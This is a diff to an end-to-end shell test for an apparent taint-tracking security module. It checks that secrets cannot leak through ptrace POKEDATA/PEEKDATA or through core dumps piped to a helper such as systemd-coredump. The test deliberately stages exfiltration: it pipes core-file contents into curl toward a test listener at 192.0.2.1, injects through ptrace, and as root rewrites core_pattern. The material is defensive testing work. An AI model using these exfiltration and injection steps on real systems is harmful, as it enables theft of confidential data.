@@ -11,11 +11,13 @@
 # (3) A USB device node (usbfs, how MTP/PTP phones, cameras and adb are reached): a tainted
 # user process's ioctl on a real (virtual) USB stick's node is refused and logged. (4) Another
 # process's memory: what a tainted process writes into a clean one with process_vm_writev
-# taints it (its send is refused); a tainted process may not reach into the exempt browser
-# at all (refused, logged). (5) A core dump: a tainted process that crashes itself leaves a
-# core holding what it read; the core is tainted, so `grep -a secret core | curl` is refused.
+# taints it (its send is refused), and so does ptrace after an attach made while both were
+# clean (POKEDATA and PEEKDATA of what either side read later); a tainted process may not
+# reach into the exempt browser at all (refused, logged). (5) A core dump: a tainted process that crashes itself leaves a
+# core holding what it read; the core is tainted, so `grep -a secret core | curl` is refused;
+# so is a core piped to a helper (as systemd-coredump gets it) and the file the helper writes.
 # e2e-stick: u1 serial=FUT-TAINT-0028 label=TAINT28 size=16
-# e2e-timeout: 300
+# e2e-timeout: 420
 . "$E2E_SRCDIR/guest/agent.sh"
 . "$E2E_SRCDIR/guest/taint.sh"
 fe_setup
@@ -266,6 +268,25 @@ rc=$(inject "$f" flow 192.0.2.1 8080)
 if grep -q "$MARKER" "$recv"; then fail "the listener received the file through the injected child"; fi
 logged_since "$before" "the injected child's refused send"
 note "process_vm_writev: the clean child took the taint, its send refused, logged"
+# ptrace after the attach: PTRACE_POKEDATA and PEEKDATA ask the LSM nothing, so what either
+# side reads while attached must flow to the other (attached while both were clean).
+for mode in poke peek; do
+	: >"$recv"
+	rc=$(inject "$U/notice.txt" $mode 192.0.2.1 8080)
+	[ "$rc" = 0 ] || fail "$mode: the public notice was not sent through ptrace (exit $rc: 1 refused, 3 never read, 100 + errno: a ptrace call failed)"
+	for ((i = 0; i < 50; i++)); do
+		grep -q PUBLIC28 "$recv" && break
+		sleep 0.1
+	done
+	grep -q PUBLIC28 "$recv" || fail "$mode: the listener did not receive the public notice"
+	: >"$recv"
+	before=$(denials)
+	rc=$(inject "$f" $mode 192.0.2.1 8080)
+	[ "$rc" = 1 ] || fail "$mode: the file read by one side of an attached ptrace was sent by the other (exit $rc: 0 sent, 3 never read, 100 + errno: a ptrace call failed)"
+	if grep -q "$MARKER" "$recv"; then fail "$mode: the listener received the file through ptrace"; fi
+	logged_since "$before" "$mode: the refused send"
+done
+note "ptrace attached while clean: POKEDATA of a file read later, and PEEKDATA of what the tracee read later, carry the taint; both sends refused, logged"
 mkfifo "$E2E_SCRATCH/hold"
 chmod 0666 "$E2E_SCRATCH/hold"
 rc=$(inject "$U/notice.txt" exempt "$bin/firefox-test" -s "file://$E2E_SCRATCH/hold")
@@ -317,3 +338,39 @@ e2e_as hanako timeout 60 bash -c "grep -a -o -m 1 '$MARKER[ -~]*' '$core' | $CUR
 if grep -q "$MARKER" "$recv"; then fail "the listener received the tainted core"; fi
 logged_since "$before" "the tainted core's refused send"
 note "core dump: the tainted process's core is tainted (its send refused, logged); a clean core went"
+
+# The same with the core piped to a helper, as systemd-coredump gets it: here dd, as root,
+# writes what the pipe brings to a file hanako can read.
+pcore=$cores/piped.core
+echo "|/bin/dd of=$pcore status=none" >/proc/sys/kernel/core_pattern
+piped() { # FILE: hanako's python3 reads FILE, keeps it, aborts; waits for the helper
+	local i
+	rm -f "$pcore"
+	e2e_as hanako bash -c "ulimit -c unlimited; exec python3 -c 'import os, sys; d = open(sys.argv[1], \"rb\").read(); os.abort()' '$1'" >/dev/null 2>&1 || true
+	for ((i = 0; i < 300; i++)); do
+		[ -s "$pcore" ] && ! pgrep -f "of=$pcore" >/dev/null && return 0
+		sleep 0.1
+	done
+	fail "no piped core at $pcore (core_pattern $(cat /proc/sys/kernel/core_pattern))"
+}
+piped "$U/notice.txt"
+grep -q PUBLIC28 "$pcore" || fail "the clean piped core does not hold the notice"
+e2e_as hanako cat "$pcore" >/dev/null
+ft_learner_idle
+e2e_as hanako timeout 60 bash -c "grep -a -o -m 1 'PUBLIC28[ -~]*' '$pcore' | $CURL -s -m 20 -o /dev/null -H Expect: --data-binary @- $URL" ||
+	fail "a clean process's piped core could not be sent"
+for ((i = 0; i < 50; i++)); do
+	grep -q PUBLIC28 "$recv" && break
+	sleep 0.1
+done
+grep -q PUBLIC28 "$recv" || fail "the listener did not receive the clean piped core"
+: >"$recv"
+piped "$f"
+grep -q "$MARKER" "$pcore" || fail "the tainted piped core does not hold the file's content"
+before=$(denials)
+rc=0
+e2e_as hanako timeout 60 bash -c "grep -a -o -m 1 '$MARKER[ -~]*' '$pcore' | $CURL -s -m 20 -o /dev/null -H Expect: --data-binary @- $URL" >/dev/null 2>&1 || rc=$?
+[ "$rc" -ne 0 ] || fail "the piped core of a tainted process was sent"
+if grep -q "$MARKER" "$recv"; then fail "the listener received the tainted piped core"; fi
+logged_since "$before" "the tainted piped core's refused send"
+note "piped core dump: the helper that wrote it and so the core are tainted (its send refused, logged); a clean one went"
